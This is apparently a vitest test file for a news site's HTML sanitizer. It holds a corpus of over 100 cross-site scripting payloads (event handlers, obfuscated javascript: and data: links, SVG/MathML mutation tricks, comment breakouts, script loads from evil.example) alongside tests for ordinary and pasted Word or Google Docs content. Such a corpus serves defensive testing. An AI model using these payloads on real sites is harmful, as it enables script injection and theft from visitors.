import { describe, expect, it } from "vitest";
import { sanitizeArticleHtml } from "@/lib/html/sanitize";

// ---------------------------------------------------------------------------------------------
// What "nothing executable" means. sanitize-html re-serializes everything it keeps, so its output
// is a sequence of plain tags with double-quoted attributes and text in which "<" is escaped. The
// check below accepts exactly that: any other "<" (comments, CDATA, broken or unquoted tags),
// any tag outside the allowlist, any attribute but href/rel/target (so also style, src, action,
// formaction, srcdoc, xlink:href…) and any href a browser would read as another scheme is flagged.
// ---------------------------------------------------------------------------------------------

const KEPT_TAGS = new Set([
  "p",
  "h2",
  "h3",
  "h4",
  "strong",
  "em",
  "u",
  "s",
  "a",
  "ul",
  "ol",
  "li",
  "blockquote",
  "br",
  "hr",
  "sup",
  "sub",
  "code",
]);
const FORBIDDEN_TAG = /<\s*\/?\s*(?:script|iframe|object|embed|svg|math|style|meta|form|base|link)\b/i;
const TAG = /<\/?([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s"'=<>/]+="[^"]*")*)\s*\/?>/y;
const ATTRIBUTE = /\s+([^\s"'=<>/]+)="([^"]*)"/g;
const ENTITY = /&(?:#(\d+)|#x([0-9a-f]+)|([a-z][a-z0-9]*));?/gi;
const NAMED_ENTITIES: Record<string, string> = { amp: "&", quot: '"', lt: "<", gt: ">", apos: "'", nbsp: "\u00a0" };

function executableParts(html: string): string[] {
  const problems: string[] = [];
  if (/<\s*script/i.test(html)) problems.push("a script element");
  if (FORBIDDEN_TAG.test(html)) problems.push(`a forbidden element: ${FORBIDDEN_TAG.exec(html)![0]}`);
  for (let at = html.indexOf("<"); at !== -1; at = html.indexOf("<", at + 1)) {
    TAG.lastIndex = at;
    const tag = TAG.exec(html);
    if (!tag) {
      problems.push(`markup that is not a plain tag: ${html.slice(at, at + 40)}`);
      continue;
    }
    const [, name, attributes] = tag;
    if (!KEPT_TAGS.has(name!.toLowerCase())) problems.push(`<${name}>`);
    for (const [, attribute, value] of attributes!.matchAll(ATTRIBUTE)) problems.push(...attributeProblems(attribute!, value!));
  }
  return problems;
}

function attributeProblems(name: string, value: string): string[] {
  const lower = name.toLowerCase();
  if (lower.startsWith("on")) return [`event handler ${name}`];
  if (!["href", "rel", "target"].includes(lower)) return [`attribute ${name}`];
  if (lower === "href" && !isSafeUrl(value)) return [`unsafe href ${value}`];
  return [];
}

/** Reads the value as a browser would: entities decoded once, tabs, newlines and controls ignored. */
function isSafeUrl(raw: string): boolean {
  let unknownEntity = false;
  const decoded = raw.replace(ENTITY, (entity, decimal?: string, hex?: string, name?: string) => {
    const code = decimal ? Number(decimal) : hex ? parseInt(hex, 16) : undefined;
    if (code !== undefined) return code <= 0x10ffff ? String.fromCodePoint(code) : "\ufffd";
    const character = NAMED_ENTITIES[name!.toLowerCase()];
    if (character === undefined) unknownEntity = true;
    return character ?? entity;
  });
  const url = decoded.replace(/[\u0000-\u0020\u007f-\u009f]/g, "");
  if (unknownEntity || /^[\\/]{2}/.test(url)) return false;
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url)?.[1]?.toLowerCase();
  return scheme === undefined || ["http", "https", "mailto"].includes(scheme);
}

// ---------------------------------------------------------------------------------------------
// The corpus.
// ---------------------------------------------------------------------------------------------

const handlerOnEveryKeptTag = [
  "p",
  "h2",
  "h3",
  "h4",
  "strong",
  "b",
  "em",
  "i",
  "u",
  "s",
  "a",
  "ul",
  "ol",
  "li",
  "blockquote",
  "sup",
  "sub",
  "code",
].map((tag) => `<${tag} onclick="alert(1)">x</${tag}>`);

const handlerOnOtherTags = [
  `<br onmouseover="alert(1)">`,
  `<hr onfocus="alert(1)" tabindex="0" autofocus>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC=x ONERROR="alert(1)">`,
  `<image src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<iframe onload=alert(1)>`,
  `<object data=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<select autofocus onfocus=alert(1)>`,
  `<textarea autofocus onfocus=alert(1)>`,
  `<div onmouseover="alert(1)">x</div>`,
  `<span onclick="alert(1)">x</span>`,
  `<button onclick="alert(1)">x</button>`,
  `<style onload=alert(1)></style>`,
  `<link rel=stylesheet href=x onload=alert(1)>`,
  `<frameset onload=alert(1)>`,
  `<table background="javascript:alert(1)"><td onclick=alert(1)>x</td></table>`,
  `<x-widget onclick="alert(1)">x</x-widget>`,
  `<p style="animation-name:spin" onanimationstart="alert(1)">x</p>`,
  `<p onclick=alert(1)>unquoted</p>`,
  `<p ONCLICK="alert(1)">upper</p>`,
  `<p/onclick="alert(1)">slash</p>`,
  `<p onclick\t="alert(1)">tab</p>`,
  `<p\nonclick="alert(1)">newline</p>`,
  `<a href="https://example.org/" onmouseover="alert(1)">x</a>`,
];

const scriptElements = [
  `<script>alert(1)</script>`,
  `<SCRIPT>alert(1)</SCRIPT>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<script>script>alert(1)<</script>/script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<script>alert(1)`,
  `<script>alert(1)</script`,
  `<script/src="data:text/javascript,alert(1)"></script>`,
  `<script type="module">import("//evil.example/x.js")</script>`,
  `<script >alert(1)</script >`,
  `<p>a<script>alert(1)</script>b</p>`,
  `"><script>alert(1)</script>`,
  `</p><script>alert(1)</script><p>`,
  `<script>/*</script><script>*/alert(1)</script>`,
  `<scr\u0000ipt>alert(1)</scr\u0000ipt>`,
  `<code><script>alert(1)</script></code>`,
];

const dangerousLinks = [
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `  javascript:alert(1)`,
  `java\tscript:alert(1)`,
  `java\nscript:alert(1)`,
  `java\rscript:alert(1)`,
  `\u0000javascript:alert(1)`,
  `java\u0000script:alert(1)`,
  `\u0001javascript:alert(1)`,
  `\u000Bjavascript:alert(1)`,
  `java&#09;script:alert(1)`,
  `java&#x09;script:alert(1)`,
  `java&#x0A;script:alert(1)`,
  `jav&#x0D;ascript:alert(1)`,
  `java&Tab;script:alert(1)`,
  `java&NewLine;script:alert(1)`,
  `javascript&colon;alert(1)`,
  `jAvAsCrIpT&colon;alert&lpar;1&rpar;`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)`,
  `javas&#99;ript:alert(1)`,
  `&#x20;javascript:alert(1)`,
  `&#14;javascript:alert(1)`,
  `javascript:%61lert(1)`,
  `javascript://%0Aalert(1)`,
  `%6A%61%76%61%73%63%72%69%70%74:alert(1)`,
  `java%0ascript:alert(1)`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:text/html,<script>alert(1)</script>`,
  `DATA:text/html,<script>alert(1)</script>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
  `livescript:alert(1)`,
  `file:///etc/passwd`,
  `//evil.example/`,
  `/\\evil.example/`,
  `\\\\evil.example/`,
  `\\u006Aavascript:alert(1)`,
].map((href) => `<a href="${href}">x</a>`);

const linkTricks = [
  `<a href=javascript:alert(1)>unquoted</a>`,
  `<a href='javascript:alert(1)'>single</a>`,
  `<a href="javascript:alert(1)" href="https://example.org/">duplicate</a>`,
  `<a xlink:href="javascript:alert(1)">xlink</a>`,
  `<a href="https://example.org/" formaction="javascript:alert(1)">formaction</a>`,
  `<a href="https://example.org/" ping="https://evil.example/">ping</a>`,
  `<a href="https://example.org/" style="position:fixed;inset:0">overlay</a>`,
  `<blockquote cite="javascript:alert(1)">q</blockquote>`,
];

const foreignContent = [
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><a href="#"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>`,
  `<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`,
  `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math href="javascript:alert(1)">click</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>`,
  `<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
];

const embeddedContent = [
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<applet code="Evil.class"></applet>`,
  `<frameset><frame src="javascript:alert(1)"></frameset>`,
  `<portal src="https://evil.example/"></portal>`,
  `<img src="javascript:alert(1)">`,
  `<video poster="javascript:alert(1)"></video>`,
];

const styles = [
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<p style="width: expression(alert(1))">x</p>`,
  `<p style="x:expr/**/ession(alert(1))">x</p>`,
  `<p style="x:\\65xpression(alert(1))">x</p>`,
  `<p style="behavior: url(xss.htc)">x</p>`,
  `<p style="-moz-binding:url(https://evil.example/xss.xml#xss)">x</p>`,
  `<style>@import 'javascript:alert(1)';</style>`,
  `<style>body{background:url("javascript:alert(1)")}</style>`,
  `<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>`,
  `<style>*{color:red}</style><p>styled</p>`,
  `<link rel="stylesheet" href="javascript:alert(1)">`,
  `<link rel="import" href="https://evil.example/x.html">`,
];

const documentLevel = [
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<meta http-equiv="refresh" content="0; URL=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  `<meta charset="x-imap4-modified-utf7">`,
  `<base href="javascript:alert(1)//">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:alert(1)"><input type="submit"></form>`,
  `<form><button formaction="javascript:alert(1)">X</button></form>`,
  `<button formaction="javascript:alert(1)">X</button>`,
  `<input type="image" formaction="javascript:alert(1)" src="x">`,
  `<form id="f"></form><button form="f" formaction="javascript:alert(1)">X</button>`,
  `<isindex action="javascript:alert(1)" type="image">`,
  `<h2 id="getElementById" name="cookie" class="x">clobber</h2>`,
  `<form name="getElementById"><input name="x"></form>`,
];

const rawTextAndTemplates = [
  `<template><script>alert(1)</script></template>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<noscript><style></noscript><img src=x onerror=alert(1)>`,
  `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<title><p title="</title><img src=x onerror=alert(1)>"></title>`,
  `<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>`,
  `<plaintext><script>alert(1)</script>`,
  `<select><option><img src=x onerror=alert(1)></option></select>`,
];

const commentsAndCdata = [
  `<!--<img src=x onerror=alert(1)>-->`,
  `<!-- --!><img src=x onerror=alert(1)> -->`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!---><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<![CDATA[]]><script>alert(1)</script>`,
  `<!--[if IE]><script>alert(1)</script><![endif]-->`,
  `<![if !IE]><script>alert(1)</script><![endif]>`,
  `<?xml version="1.0"?><img src=x onerror=alert(1)>`,
  `<!DOCTYPE html><img src=x onerror=alert(1)>`,
  `<p><!--</p><img src=x onerror=alert(1)>--></p>`,
  `<a href="<!--">--><img src=x onerror=alert(1)></a>`,
];

const quoteBreaking = [
  `<a href="https://example.org/&quot;onmouseover=&quot;alert(1)">x</a>`,
  `<a href='https://example.org/"onmouseover="alert(1)'>x</a>`,
  `<a href=https://example.org/ onmouseover=alert(1)>x</a>`,
  '<a href="https://example.org/`onmouseover=alert(1)`">x</a>',
  `<p title="a"onclick="alert(1)">x</p>`,
  `<a """><img src=x onerror=alert(1)>">`,
  `<img """><script>alert(1)</script>">`,
  `<a href="https://example.org/></a><script>alert(1)</script>">x</a>`,
  `<a title="&quot;><script>alert(1)</script>" href="/x">x</a>`,
  `<p title='</p><script>alert(1)</script>'>x</p>`,
  `<a href="/x" title=a>b onclick=alert(1)>x</a>`,
];

const unicodeTricks = [
  `\uff1cscript\uff1ealert(1)\uff1c/script\uff1e`,
  `<\uff53\uff43\uff52\uff49\uff50\uff54>alert(1)</\uff53\uff43\uff52\uff49\uff50\uff54>`,
  `<scr\u0131pt>alert(1)</scr\u0131pt>`,
  `<a href="ja\u200Bvascript:alert(1)">zero width</a>`,
  `<a href="javascript\u2028:alert(1)">line separator</a>`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `<a href="&#x2F;&#x2F;evil.example/">encoded slashes</a>`,
];

const xssCorpus = [
  ...handlerOnEveryKeptTag,
  ...handlerOnOtherTags,
  ...scriptElements,
  ...dangerousLinks,
  ...linkTricks,
  ...foreignContent,
  ...embeddedContent,
  ...styles,
  ...documentLevel,
  ...rawTextAndTemplates,
  ...commentsAndCdata,
  ...quoteBreaking,
  ...unicodeTricks,
];

// ---------------------------------------------------------------------------------------------

describe("the executable-HTML check", () => {
  it.each([
    `<script>alert(1)</script>`,
    `<img src=x onerror=alert(1)>`,
    `<p onclick="alert(1)">x</p>`,
    `<a href="java&#x09;script:alert(1)">x</a>`,
    `<a href="javascript&colon;alert(1)">x</a>`,
    `<a href="&#0000106avascript:alert(1)">x</a>`,
    `<a href=" vbscript:msgbox(1)">x</a>`,
    `<a href="//evil.example/">x</a>`,
    `<svg></svg>`,
    `<p style="color:red">x</p>`,
    `<!-- x -->`,
    `<p>a < b</p>`,
  ])("flags %j", (html) => {
    expect(executableParts(html)).not.toEqual([]);
  });

  it("passes what the sanitizer is meant to produce", () => {
    const html = `<h2>T</h2><p>a &lt; b &amp; <a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">x</a> <a href="/en/issues">y</a> <a href="mailto:desk@example.org">z</a></p><hr /><br />`;
    expect(executableParts(html)).toEqual([]);
  });
});

describe("sanitizeArticleHtml against XSS", () => {
  it("is tried on at least 100 distinct payloads", () => {
    expect(new Set(xssCorpus).size).toBe(xssCorpus.length);
    expect(xssCorpus.length).toBeGreaterThanOrEqual(100);
  });

  it.each(xssCorpus)("leaves nothing executable of %j", (payload) => {
    const output = sanitizeArticleHtml(payload);
    expect(executableParts(output), output).toEqual([]);
    // Bodies are sanitized when saved and again when rendered; the second pass must change nothing.
    expect(sanitizeArticleHtml(output)).toBe(output);
  });
});

describe("sanitizeArticleHtml on ordinary content", () => {
  it("keeps paragraphs, headings, emphasis, lists and quotes", () => {
    const html =
      "<h2>Security</h2><h3>Drills</h3><h4>West</h4><p>A <strong>bold</strong> and <em>quiet</em> <u>week</u>, <s>not</s> x<sup>2</sup> H<sub>2</sub>O <code>code</code>.<br>Next line.</p>" +
      "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol><blockquote><p>Quoted.</p></blockquote><hr>";
    expect(sanitizeArticleHtml(html)).toBe(
      "<h2>Security</h2><h3>Drills</h3><h4>West</h4><p>A <strong>bold</strong> and <em>quiet</em> <u>week</u>, <s>not</s> x<sup>2</sup> H<sub>2</sub>O <code>code</code>.<br />Next line.</p>" +
        "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol><blockquote><p>Quoted.</p></blockquote><hr />",
    );
  });

  it("writes <b> and <i> as <strong> and <em>", () => {
    expect(sanitizeArticleHtml("<p><b>bold</b> <i>italic</i> <B>loud</B></p>")).toBe(
      "<p><strong>bold</strong> <em>italic</em> <strong>loud</strong></p>",
    );
  });

  it("opens external links in a new tab without handing over the page", () => {
    expect(sanitizeArticleHtml(`<a href="https://example.org/report?a=1&b=2" target="_self" rel="opener">r</a>`)).toBe(
      `<a href="https://example.org/report?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">r</a>`,
    );
    expect(sanitizeArticleHtml(`<a href=" HTTP://EXAMPLE.ORG/">r</a>`)).toBe(
      `<a href="HTTP://EXAMPLE.ORG/" rel="noopener noreferrer" target="_blank">r</a>`,
    );
  });

  it("keeps site-relative, fragment and mailto links as they are", () => {
    expect(sanitizeArticleHtml(`<a href="/en/issues/2017-11-27" target="_blank">i</a>`)).toBe(`<a href="/en/issues/2017-11-27">i</a>`);
    expect(sanitizeArticleHtml(`<a href="#note-1">n</a>`)).toBe(`<a href="#note-1">n</a>`);
    expect(sanitizeArticleHtml(`<a href="mailto:desk@example.org">m</a>`)).toBe(`<a href="mailto:desk@example.org">m</a>`);
  });

  it("keeps the words of a link whose address it refuses", () => {
    expect(sanitizeArticleHtml(`<p>See <a href="javascript:alert(1)">this</a>.</p>`)).toBe("<p>See <a>this</a>.</p>");
  });

  it("keeps text that merely looks like markup as text", () => {
    expect(sanitizeArticleHtml("<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>")).toBe("<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>");
  });
});

// Trimmed but faithful clipboard HTML: Word 365 for Windows ("HTML Format") and Google Docs in Chrome.
const wordPaste = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15">
<style><!-- p.MsoNormal, li.MsoNormal {mso-style-parent:""; margin:0cm; font-size:11.0pt;} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
</head>
<body lang=EN-GB style='tab-interval:36.0pt;word-wrap:break-word'>
<!--StartFragment-->
<h2 style='mso-margin-top-alt:auto'><a name="_Toc1"></a><span lang=EN-US style='font-size:14.0pt;mso-bidi-font-family:Calibri'>Economy<o:p></o:p></span></h2>
<p class=MsoNormal><b><span style='mso-bidi-font-weight:normal'>The budget</span></b><span lang=EN-US> grew, <i style='mso-bidi-font-style:normal'>again</i>.<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<ul style='margin-top:0cm' type=disc>
 <li class=MsoNormal style='mso-list:l0 level1 lfo1'><span lang=EN-US>Taxes<o:p></o:p></span></li>
 <li class=MsoNormal style='mso-list:l0 level1 lfo1'><span lang=EN-US>Spending<o:p></o:p></span></li>
</ul>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>Revenue<o:p></o:p></p>
<p class=MsoNormal><span lang=EN-US>Source: <a href="https://example.org/budget"><span style='color:#0563C1'>the ministry</span></a>.<o:p></o:p></span></p>
<!--EndFragment-->
</body>
</html>`;

const googleDocsPaste =
  `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-5c1e2f3a-7fff-1a2b-3c4d-5e6f7a8b9c0d">` +
  `<h1 dir="ltr" style="line-height:1.38;margin-top:20pt;margin-bottom:6pt;"><span style="font-size:20pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;font-variant:normal;text-decoration:none;vertical-align:baseline;white-space:pre;white-space:pre-wrap;">Border talks</span></h1>` +
  `<p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:700;font-style:normal;">Minsk</span><span style="font-size:11pt;font-weight:400;font-style:normal;"> and Warsaw met </span><span style="font-size:11pt;font-weight:400;font-style:italic;">twice</span><span style="font-weight:400;">.</span></p>` +
  `<h2 dir="ltr" style="line-height:1.38;margin-top:18pt;margin-bottom:6pt;"><span style="font-size:16pt;font-weight:400;">Agenda</span></h2>` +
  `<ol style="margin-top:0;margin-bottom:0;padding-inline-start:48px;"><li dir="ltr" style="list-style-type:decimal;font-size:11pt;" aria-level="1"><p dir="ltr" style="line-height:1.38;" role="presentation"><span style="font-weight:400;">Crossings</span></p></li>` +
  `<li dir="ltr" style="list-style-type:decimal;" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;">Trade</span></p></li></ol>` +
  `<p dir="ltr" style="line-height:1.38;"><a href="https://example.org/talks" style="text-decoration:none;"><span style="font-size:11pt;color:#1155cc;font-weight:400;text-decoration:underline;">Communiqué</span></a></p>` +
  `<p dir="ltr" style="line-height:1.38;"><span style="font-size:11pt;font-weight:400;"><br></span></p></b><br class="Apple-interchange-newline">`;

/** Newlines (and the indentation after them) between the blocks of a pasted document are not content. */
function withoutLineBreaks(html: string): string {
  return html.replace(/\n\s*/g, "");
}

describe("sanitizeArticleHtml on pasted documents", () => {
  it("keeps the structure of a Word document and drops Office markup, styles, spans and bookmarks", () => {
    // Word's own numbered paragraphs (mso-list) are not list markup: they stay paragraphs, number and all.
    expect(withoutLineBreaks(sanitizeArticleHtml(wordPaste))).toBe(
      "<h2>Economy</h2><p><strong>The budget</strong> grew, <em>again</em>.</p><ul><li>Taxes</li><li>Spending</li></ul>" +
        "<p>1.\u00a0\u00a0 Revenue</p>" +
        `<p>Source: <a href="https://example.org/budget" rel="noopener noreferrer" target="_blank">the ministry</a>.</p>`,
    );
  });

  it("keeps the structure of a Google Docs document, reading its styled spans and unwrapping its wrapper", () => {
    expect(sanitizeArticleHtml(googleDocsPaste)).toBe(
      "<h2>Border talks</h2><p><strong>Minsk</strong> and Warsaw met <em>twice</em>.</p><h2>Agenda</h2>" +
        "<ol><li><p>Crossings</p></li><li><p>Trade</p></li></ol>" +
        `<p><a href="https://example.org/talks" rel="noopener noreferrer" target="_blank">Communiqué</a></p><br />`,
    );
  });

  it("drops paragraphs without text, which pasted documents use as spacing", () => {
    expect(sanitizeArticleHtml("<p>a</p><p>&nbsp;</p><p> </p><p><br></p><p></p><p>b</p>")).toBe("<p>a</p><p>b</p>");
  });

  it("makes an h1 the body's top heading and h5 or h6 its lowest", () => {
    expect(sanitizeArticleHtml("<h1>A</h1><h5>B</h5><h6>C</h6>")).toBe("<h2>A</h2><h4>B</h4><h4>C</h4>");
  });
});
